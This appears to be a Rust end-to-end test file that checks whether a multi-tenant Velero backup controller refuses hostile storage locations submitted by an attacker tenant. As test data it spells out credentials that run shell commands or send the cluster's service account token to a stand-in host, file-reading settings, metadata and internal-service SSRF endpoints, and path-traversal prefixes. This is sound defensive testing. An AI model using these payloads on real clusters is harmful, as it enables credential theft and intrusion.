//! Locations and credentials that would reach something other than the tenant's own bucket.

use anyhow::{Context, Result, ensure};
use api::velero::BackupStorageLocation;
use api::{
    Kind, NonAdminBackupStorageLocation, NonAdminBackupStorageLocationRequest, condition, velero_name,
};
use bed::eventually;
use e2e::{Tenant, VELERO};
use k8s_openapi::api::core::v1::Secret;
use kube::ResourceExt;
use kube::api::{ListParams, Patch, PatchParams};
use serde_json::{Value, json};

use crate::attack_cluster::{AttackCluster, TIMEOUT, VICTIM};

/// The part of a credential that must never be shown.
const VALUE: &str = "hunter2";

fn aws(mut more: Value) -> Value {
    let mut spec = json!({"provider": "aws", "objectStorage": {"bucket": "mine"}, "config": {"region": "eu-west-1"},
        "credential": {"name": "keys", "key": "cloud"}});
    for (key, value) in more.as_object_mut().into_iter().flatten() {
        spec[key] = value.take();
    }
    spec
}

async fn keys(mallory: &Tenant<'_>) -> Result<()> {
    mallory.keep_keys("keys", "[default]\naws_access_key_id = a\naws_secret_access_key = b\n").await
}

/// Keeps each text as a credential, expects words that name what is wrong and not its value, and no copy of it.
async fn credentials_refused(
    attack_cluster: &AttackCluster,
    scenario: &str,
    provider: &str,
    texts: &[(&str, &str)],
) -> Result<()> {
    let mallory = attack_cluster.attacker(scenario).await?;
    let config = match provider {
        "aws" => json!({"region": "eu-west-1"}),
        "azure" => json!({"resourceGroup": "group", "storageAccount": "account"}),
        _ => json!({}),
    };
    for (number, (named, text)) in texts.iter().enumerate() {
        // One at a time, since there is a limit on locations and this is not about it.
        let name = format!("l{number}");
        mallory.keep_keys(&name, text).await?;
        let spec = json!({"provider": provider, "objectStorage": {"bucket": "mine"}, "config": config,
            "credential": {"name": name, "key": "cloud"}});
        let words = attack_cluster.location_refused(&mallory, &name, spec).await?;
        ensure!(words.contains(named), "{named} is not named in {words:?}");
        ensure!(!words.contains(VALUE), "{words}");
        mallory.delete::<NonAdminBackupStorageLocation>(&name).await?;
        mallory.gone::<NonAdminBackupStorageLocation>(&name).await?;
    }
    Ok(())
}

/// C1
/// C2: a credential that sends Velero's service account token to another server
pub(crate) async fn c1_c2_a_credential_that_sends_veleros_own_token_away(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let aws = [
        ("credential_process", "[default]\ncredential_process = /bin/sh -c hunter2\n"),
        ("role_arn", "[default]\nrole_arn = hunter2\nweb_identity_token_file = /var/run/token\n"),
        (
            "endpoint_url",
            "[default]\naws_access_key_id = a\naws_secret_access_key = hunter2\nendpoint_url = x\n",
        ),
    ];
    credentials_refused(attack_cluster, "c2a", "aws", &aws).await?;
    let gcp = [
        (
            "service_account",
            r#"{"type": "external_account", "token_url": "https://hunter2.example",
            "credential_source": {"file": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}"#,
        ),
        (
            "token_uri",
            r#"{"type": "service_account", "project_id": "p", "private_key_id": "k",
            "private_key": "-----BEGIN PRIVATE KEY-----\naHVudGVyMg==\n-----END PRIVATE KEY-----\n", "client_email": "a@b", "token_uri": "https://hunter2.example/token"}"#,
        ),
    ];
    credentials_refused(attack_cluster, "c2g", "gcp", &gcp).await
}

/// C3: a credential that reads a file of Velero's pod
pub(crate) async fn c3_a_credential_that_reads_a_file(attack_cluster: &AttackCluster) -> Result<()> {
    let texts = [
        (
            "AZURE_CLIENT_CERTIFICATE_PATH",
            "AZURE_CLIENT_ID=hunter2\nAZURE_CLIENT_CERTIFICATE_PATH=/etc/passwd\n",
        ),
        (
            "AZURE_AUTHORITY_HOST",
            "AZURE_STORAGE_ACCOUNT_ACCESS_KEY=hunter2\nAZURE_AUTHORITY_HOST=https://x\n",
        ),
    ];
    credentials_refused(attack_cluster, "c3", "azure", &texts).await
}

/// C4: a credential without keys, which would fall back to the node's or cluster's identity
pub(crate) async fn c4_a_credential_that_falls_back_to_the_clusters_own(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let texts = [
        ("aws_access_key_id", "[default]\n"),
        ("credential_source", "[default]\ncredential_source = Ec2InstanceMetadata\n"),
        ("no profile", ""),
    ];
    credentials_refused(attack_cluster, "c4", "aws", &texts).await
}

/// Sends each, and expects words about the field.
async fn locations_refused(
    attack_cluster: &AttackCluster,
    scenario: &str,
    attempts: impl IntoIterator<Item = (&str, Value)>,
) -> Result<()> {
    let mallory = attack_cluster.attacker(scenario).await?;
    keys(&mallory).await?;
    for (number, (field, spec)) in attempts.into_iter().enumerate() {
        let name = format!("l{number}");
        let words = attack_cluster.location_refused(&mallory, &name, spec).await?;
        ensure!(words.contains(field), "{field} is not named in {words:?}");
        mallory.delete::<NonAdminBackupStorageLocation>(&name).await?;
        mallory.gone::<NonAdminBackupStorageLocation>(&name).await?;
    }
    Ok(())
}

/// C5: `config.credentialsFile` and similar: a setting that names the administrators' file
pub(crate) async fn c5_a_setting_that_names_the_administrators_file(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let settings = ["credentialsFile", "customerKeyEncryptionFile", "somethingNew"];
    let attempts =
        settings.map(|key| (key, aws(json!({"config": {"region": "eu-west-1", key: "/credentials/cloud"}}))));
    locations_refused(attack_cluster, "c5", attempts).await
}

/// C7: an endpoint inside the cluster: metadata address, loopback, API server, another tenant's service
pub(crate) async fn c7_an_endpoint_inside_the_cluster(attack_cluster: &AttackCluster) -> Result<()> {
    let api_server = attack_cluster.test_cluster.bed.server().to_owned();
    let host = api_server.trim_start_matches("https://").replace("127.0.0.1", "127.0.0.2");
    let urls = [
        "http://169.254.169.254/latest".to_owned(),
        "http://0xa9fea9fe/".to_owned(),
        "http://[::ffff:169.254.169.254]/".to_owned(),
        "http://localhost:9000".to_owned(),
        format!("https://{host}"),
        format!("http://store.{VICTIM}.svc:9000"),
        "https://kubernetes.default.svc.cluster.local".to_owned(),
        "http://metadata.google.internal".to_owned(),
    ];
    let attempts = urls.iter().map(|url| {
        let config = json!({"region": "eu-west-1", "s3ForcePathStyle": "true", "s3Url": url});
        ("s3Url", aws(json!({ "config": config })))
    });
    locations_refused(attack_cluster, "c7", attempts).await
}

/// A ClusterIP, a pod's and a node's address. With the rule off, which is the policy's list of allowed endpoints, other
/// scenarios use a store on this machine.
pub(crate) async fn h12_an_address_of_the_cluster_as_endpoint(attack_cluster: &AttackCluster) -> Result<()> {
    let hosts = ["10.96.0.10", "192.168.49.2:9000", "172.17.0.3", "[fd00:10:96::a]", "100.64.1.1"];
    let attempts = hosts.map(|host| {
        let config =
            json!({"region": "eu-west-1", "s3ForcePathStyle": "true", "s3Url": format!("http://{host}")});
        ("private address", aws(json!({ "config": config })))
    });
    locations_refused(attack_cluster, "h12", attempts).await
}

/// The finalizer is replaced and the location deleted again and again, until nacre was not fast enough to notice.
pub(crate) async fn h5_a_location_deleted_behind_a_foreign_finalizer(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let mallory = attack_cluster.attacker_with_bucket("h5").await?;
    let api = mallory.api::<NonAdminBackupStorageLocation>();
    let name = velero_name(&mallory.namespace, "own", &api.get("own").await?.uid().context("a uid")?);
    let foreign = json!({"metadata": {"finalizers": ["example.com/never"]}});
    api.patch("own", &PatchParams::default(), &Patch::Merge(&foreign)).await?;
    mallory.delete::<NonAdminBackupStorageLocation>("own").await?;
    // nacre may have put its finalizer back in between: then it is replaced while the location is being deleted.
    api.patch("own", &PatchParams::default(), &Patch::Merge(&foreign)).await?;
    let storages = attack_cluster.test_cluster.admin::<BackupStorageLocation>().await?;
    let secrets = attack_cluster.test_cluster.admin::<Secret>().await?;
    eventually("the location and its Secret to go", TIMEOUT, async || {
        ensure!(storages.get_opt(&name).await?.is_none(), "Velero has the location");
        ensure!(secrets.get_opt(&name).await?.is_none(), "Velero has the Secret");
        anyhow::Ok(())
    })
    .await?;
    let deleted = api.get("own").await?.metadata.deletion_timestamp;
    let deleted = deleted.context("the foreign finalizer keeps the request")?.0.as_second();
    // What was asked for before the deletion goes with the location; times have whole seconds.
    eventually("the second of the deletion to be over", TIMEOUT, async || {
        ensure!(jiff::Timestamp::now().as_second() > deleted, "it is not");
        anyhow::Ok(())
    })
    .await?;
    let spec = json!({"backupSpec": {"storageLocation": "own"}});
    let words = attack_cluster.refused(&mallory, Kind::NonAdminBackup, "late", spec).await?;
    ensure!(words.contains("is being deleted"), "{words}");
    attack_cluster.nothing_made_for(&mallory).await?;
    api.patch("own", &PatchParams::default(), &Patch::Merge(json!({"metadata": {"finalizers": null}})))
        .await?;
    mallory.gone::<NonAdminBackupStorageLocation>("own").await
}

/// C8: TLS verification disabled, or a CA certificate that is not one
pub(crate) async fn c8_transport_security_switched_off(attack_cluster: &AttackCluster) -> Result<()> {
    let skipped =
        json!({"region": "eu-west-1", "s3Url": "https://s3.example.com", "insecureSkipTLSVerify": "true"});
    let no_pem = json!({"bucket": "mine", "caCert": "bm90IGEgY2VydGlmaWNhdGU="});
    let somebody_elses = json!({"bucket": "mine", "caCertRef": {"name": "ca", "key": "ca.crt"}});
    let attempts = [
        ("insecureSkipTLSVerify", aws(json!({ "config": skipped }))),
        ("caCert", aws(json!({ "objectStorage": no_pem }))),
        ("caCertRef", aws(json!({ "objectStorage": somebody_elses }))),
    ];
    locations_refused(attack_cluster, "c8", attempts).await
}

/// The planted weaknesses: where the policy has these rules off, the same locations reach Velero.
/// planted: a policy without these rules
pub(crate) async fn c7_h12_c8_c17_with_the_rules_off_such_locations_reach_velero(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let mallory = attack_cluster.attacker("weak").await?;
    keys(&mallory).await?;
    let inside = |url: &str| json!({"region": "eu-west-1", "s3ForcePathStyle": "true", "s3Url": url});
    let mut skipped = inside("https://127.0.0.3:9");
    skipped["insecureSkipTLSVerify"] = json!("true");
    let mut attempts = vec![inside("http://127.0.0.3:9"), skipped];
    // More than the three that others may have.
    attempts.extend((0..3).map(|_| inside("http://127.0.0.3:9")));
    for (number, config) in attempts.into_iter().enumerate() {
        let (name, bucket) = (format!("l{number}"), json!({"bucket": format!("bucket-{number}")}));
        let spec = aws(json!({"config": config, "objectStorage": bucket}));
        let spec = json!({"spec": {"backupStorageLocationSpec": spec}});
        mallory.create::<NonAdminBackupStorageLocation>(&name, spec).await?;
        handed_over(attack_cluster, &mallory, &name).await?;
    }
    // Velero would go on trying to reach them.
    for number in 0..5 {
        let name = format!("l{number}");
        mallory.delete::<NonAdminBackupStorageLocation>(&name).await?;
        mallory.gone::<NonAdminBackupStorageLocation>(&name).await?;
    }
    Ok(())
}

/// C9: a prefix that leaves the tenant's folder (`../victim`)
pub(crate) async fn c9_a_prefix_that_climbs_out(attack_cluster: &AttackCluster) -> Result<()> {
    let prefixes = ["../victim/velero", "a/../../victim", "/victim", "a//b", "./a", ".."];
    let attempts = prefixes
        .map(|prefix| ("prefix", aws(json!({"objectStorage": {"bucket": "mine", "prefix": prefix}}))));
    locations_refused(attack_cluster, "c9", attempts).await
}

/// In another bucket it is another place.
pub(crate) async fn c10_the_same_folder_by_the_name_of_a_store_and_by_its_address(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let mallory = attack_cluster.attacker("c10").await?;
    keys(&mallory).await?;
    let at = |url: &str, bucket: &str| {
        let config = json!({"region": "eu-west-1", "s3ForcePathStyle": "true", "s3Url": url});
        aws(json!({"config": config, "objectStorage": {"bucket": bucket}}))
    };
    let name = "https://store.example.com:9000";
    let spec = json!({"spec": {"backupStorageLocationSpec": at(name, "shared")}});
    mallory.create::<NonAdminBackupStorageLocation>("named", spec).await?;
    handed_over(attack_cluster, &mallory, "named").await?;
    let address = "https://127.0.0.1:9000";
    let words = attack_cluster.location_refused(&mallory, "numbered", at(address, "shared")).await?;
    ensure!(words.contains("is used by another storage location"), "{words}");
    let spec = json!({"spec": {"backupStorageLocationSpec": at(address, "other")}});
    mallory.create::<NonAdminBackupStorageLocation>("elsewhere", spec).await?;
    handed_over(attack_cluster, &mallory, "elsewhere").await?;
    for name in ["named", "numbered", "elsewhere"] {
        mallory.delete::<NonAdminBackupStorageLocation>(name).await?;
        mallory.gone::<NonAdminBackupStorageLocation>(name).await?;
    }
    Ok(())
}

/// C13: a tenant approves its own location
/// planted: a policy that requires no approval
pub(crate) async fn c13_a_request_for_approval_that_approves_itself(
    attack_cluster: &AttackCluster,
) -> Result<()> {
    let mallory = attack_cluster.attacker("c13").await?;
    keys(&mallory).await?;
    let spec = json!({"spec": {"backupStorageLocationSpec": aws(json!({}))}});
    let location = mallory.create::<NonAdminBackupStorageLocation>("own", spec).await?;
    let pending = mallory
        .location_is("approval to be waited for", "own", |status| {
            condition::get(&status.conditions, condition::CLUSTER_ADMIN_APPROVED)
                .is_some_and(|found| found.status == "False")
        })
        .await?;
    let request = pending.velero_backup_storage_location.and_then(|velero| velero.name).context("a name")?;

    // Neither to be seen nor to be decided about, in either namespace.
    let theirs = mallory.api_in::<NonAdminBackupStorageLocationRequest>(VELERO);
    let decision = json!({"spec": {"approvalDecision": "approve"}});
    ensure!(theirs.get(&request).await.is_err(), "the request can be read");
    let patched = theirs.patch(&request, &PatchParams::default(), &Patch::Merge(decision.clone())).await;
    ensure!(patched.is_err(), "the request can be decided about");
    let forged = json!({"spec": {"approvalDecision": "approve"}});
    let kind = Kind::NonAdminBackupStorageLocationRequest;
    ensure!(attack_cluster.send(&mallory, kind, &request, forged).await.is_err(), "a request can be made");

    let uid = location.uid().context("a uid")?;
    let storages = attack_cluster
        .test_cluster
        .admin::<BackupStorageLocation>()
        .await?
        .list(&ListParams::default())
        .await?;
    ensure!(!storages.iter().any(|storage| storage.name_any().ends_with(&uid)), "Velero has it");
    let secrets = attack_cluster.test_cluster.admin::<Secret>().await?.list(&ListParams::default()).await?;
    ensure!(!secrets.iter().any(|secret| secret.name_any().ends_with(&uid)), "its Secret was copied");

    // The planted weakness: where nobody has to approve it, Velero is given such a location.
    let other = attack_cluster.attacker("c13-weak").await?;
    keys(&other).await?;
    let spec = json!({"spec": {"backupStorageLocationSpec": aws(json!({}))}});
    other.create::<NonAdminBackupStorageLocation>("own", spec).await?;
    handed_over(attack_cluster, &other, "own").await?;
    other.delete::<NonAdminBackupStorageLocation>("own").await?;
    other.gone::<NonAdminBackupStorageLocation>("own").await
}

/// C15: a provider that is not allowed
/// planted: a policy that lists the provider
pub(crate) async fn c15_a_provider_nobody_allowed(attack_cluster: &AttackCluster) -> Result<()> {
    let providers = ["replicated.com/hostpath", "velero.io/fs", "AWS ", ""];
    let attempts = providers.map(|provider| ("provider", aws(json!({ "provider": provider }))));
    locations_refused(attack_cluster, "c15", attempts).await?;

    // One that nacre knows, and the policy does not list. The planted weakness: where it does, Velero is given it.
    let gcp = json!({"provider": "gcp", "objectStorage": {"bucket": "mine"},
        "credential": {"name": "gcp", "key": "cloud"}});
    locations_refused(attack_cluster, "c15", [("provider", gcp.clone())]).await?;
    let other = attack_cluster.attacker("c15-weak").await?;
    other.keep_keys("gcp", GCP).await?;
    let spec = json!({"spec": {"backupStorageLocationSpec": gcp}});
    other.create::<NonAdminBackupStorageLocation>("own", spec).await?;
    handed_over(attack_cluster, &other, "own").await?;
    other.delete::<NonAdminBackupStorageLocation>("own").await?;
    other.gone::<NonAdminBackupStorageLocation>("own").await
}

/// A credential of the shape that Google's have.
const GCP: &str = r#"{"type": "service_account", "client_email": "velero@shop-1.iam.gserviceaccount.com",
    "private_key": "-----BEGIN PRIVATE KEY-----\nMIIE+/w=\n-----END PRIVATE KEY-----\n",
    "token_uri": "https://oauth2.googleapis.com/token"}"#;

/// Waits until Velero has been given a location.
async fn handed_over(attack_cluster: &AttackCluster, tenant: &Tenant<'_>, name: &str) -> Result<()> {
    let own = tenant.api::<NonAdminBackupStorageLocation>().get(name).await?;
    let velero = velero_name(&tenant.namespace, name, &own.uid().context("a uid")?);
    let storages = attack_cluster.test_cluster.admin::<BackupStorageLocation>().await?;
    eventually("it to be handed over", TIMEOUT, async || storages.get(&velero).await.map(drop)).await
}

/// C17: more locations than the limit
pub(crate) async fn c17_a_flood_of_locations(attack_cluster: &AttackCluster) -> Result<()> {
    let mallory = attack_cluster.attacker("c17").await?;
    keys(&mallory).await?;
    for number in 0..8 {
        let bucket = json!({"objectStorage": {"bucket": format!("bucket-{number}")}});
        let spec = json!({"spec": {"backupStorageLocationSpec": aws(bucket)}});
        // Refused at once or later.
        let sent = mallory.create::<NonAdminBackupStorageLocation>(&format!("l{number}"), spec).await;
        ensure!(sent.is_ok() || number >= 3, "{sent:?}");
    }
    mallory
        .location_is("the limit to be told", "l7", |status| {
            condition::get(&status.conditions, condition::ACCEPTED)
                .is_some_and(|found| found.status == "False" && found.message.contains('3'))
        })
        .await?;
    handed_over(attack_cluster, &mallory, "l0").await?;
    let requests = attack_cluster.test_cluster.admin::<NonAdminBackupStorageLocationRequest>().await?;
    let of_mallory = |request: &NonAdminBackupStorageLocationRequest| {
        request.annotations().values().any(|value| *value == mallory.namespace)
    };
    let count = requests.list(&ListParams::default()).await?.iter().filter(|one| of_mallory(one)).count();
    ensure!((1..=3).contains(&count), "administrators are asked {count} times");
    Ok(())
}
